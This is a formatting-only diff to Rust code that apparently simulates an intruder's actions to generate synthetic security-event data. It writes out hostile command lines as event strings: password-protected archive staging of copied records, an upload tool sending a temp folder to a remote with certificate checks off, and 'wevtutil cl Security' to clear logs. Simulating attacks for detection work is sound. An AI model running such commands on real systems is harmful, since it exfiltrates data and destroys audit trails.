@@ -25,7 +25,10 @@ pub(super) fn archived(desk: &mut Desk<'_>, count: usize) {
             "{image}  a -v200m -hp{} {folder}\\{name}.7z \"{}\\{town}\\*\"",
             world.intruder.password, share.folder
         );
-        desk.hostile("archive-staging", "packed register copies with a password, in parts, into an open folder");
+        desk.hostile(
+            "archive-staging",
+            "packed register copies with a password, in parts, into an open folder",
+        );
         let who = stolen(desk);
         let process = Process {
             image: &image,
@@ -94,7 +97,12 @@ fn sent(desk: &mut Desk<'_>, count: usize) {
     let world = desk.cx.world;
     let host = world.intruder.file_host.clone();
     let tool = format!("{}\\{}.exe", desk.temp(), world.intruder.tools[4]);
-    let line = format!("{tool}  copy {} remote:{} --transfers 4 --no-check-certificate --config {}\\r.conf", desk.temp(), world.intruder.tools[2], desk.temp());
+    let line = format!(
+        "{tool}  copy {} remote:{} --transfers 4 --no-check-certificate --config {}\\r.conf",
+        desk.temp(),
+        world.intruder.tools[2],
+        desk.temp()
+    );
     run(desk, "exfiltration", "a tool for uploads was run", &[line.replace("  ", " "), tool.clone(), line]);
     let cx = desk.cx;
     let ex = &world.hosts.ex;
@@ -132,8 +140,15 @@ pub(super) fn cleared(desk: &mut Desk<'_>, variant: &str) {
     let world = desk.cx.world;
     let cx = desk.cx;
     let line = "wevtutil  cl Security".to_owned();
-    run(desk, "log-clearing", "cleared a log by command", &[line.replace("  ", " "), "C:\\Windows\\System32\\wevtutil.exe".to_owned(), line]);
-    for (host, security, system) in [(&world.hosts.ex, "ex-security", "ex-system"), (&world.hosts.fs, "fs-security", "fs-system")] {
+    run(
+        desk,
+        "log-clearing",
+        "cleared a log by command",
+        &[line.replace("  ", " "), "C:\\Windows\\System32\\wevtutil.exe".to_owned(), line],
+    );
+    for (host, security, system) in
+        [(&world.hosts.ex, "ex-security", "ex-system"), (&world.hosts.fs, "fs-security", "fs-system")]
+    {
         desk.wait(1, 60);
         desk.hostile("log-clearing", "a log was cleared");
         let who = if host.name == world.hosts.ex.name { Who::system(world, host) } else { stolen(desk) };
